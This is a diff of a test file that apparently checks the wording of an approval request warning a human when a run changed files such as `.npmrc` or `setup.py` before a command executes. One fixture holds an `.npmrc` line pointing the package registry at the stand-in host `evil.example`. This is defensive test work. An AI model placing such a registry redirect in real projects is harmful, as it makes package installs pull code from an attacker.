@@ -41,9 +41,7 @@ describe('a request for a call that runs programs, in mode contained', () => {
 			'.npmrc': 'registry=https://evil.example/\n',
 			'setup.py': 'import os\n',
 		});
-		expect(request).toContain(
-			'This run created or changed `.npmrc`, which programs may obey: where packages come from',
-		);
+		expect(request).toContain('This run created or changed `.npmrc`, which programs may use: where packages come from');
 		expect(request).toContain('registry=https://evil.example/');
 		expect(request).toContain('This run created or changed `setup.py`');
 		expect(request).toContain('import os');
@@ -53,14 +51,14 @@ describe('a request for a call that runs programs, in mode contained', () => {
 		using folder = temporaryFolder();
 		const many = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`src/f${10 + index}.ts`, 'x\n']));
 		const { request } = await aWaitingRun(folder.path, many);
-		expect(request).toContain('this run changed 12 other files, and the command runs on them: `src/f10.ts`');
+		expect(request).toContain('this run changed 12 other files, which the command can use: `src/f10.ts`');
 		expect(request).toContain('`src/f19.ts` and 2 more.');
 	});
 
 	it('says nothing of it in another mode', async () => {
 		using folder = temporaryFolder();
 		const { request } = await aWaitingRun(folder.path, { '.npmrc': 'registry=https://evil.example/\n' }, 'edit');
-		expect(request).not.toMatch(/which programs may obey|other file/);
+		expect(request).not.toMatch(/which programs may use|other file/);
 	});
 
 	it('binds them in the journal, and another machine comes to the same binding', async () => {
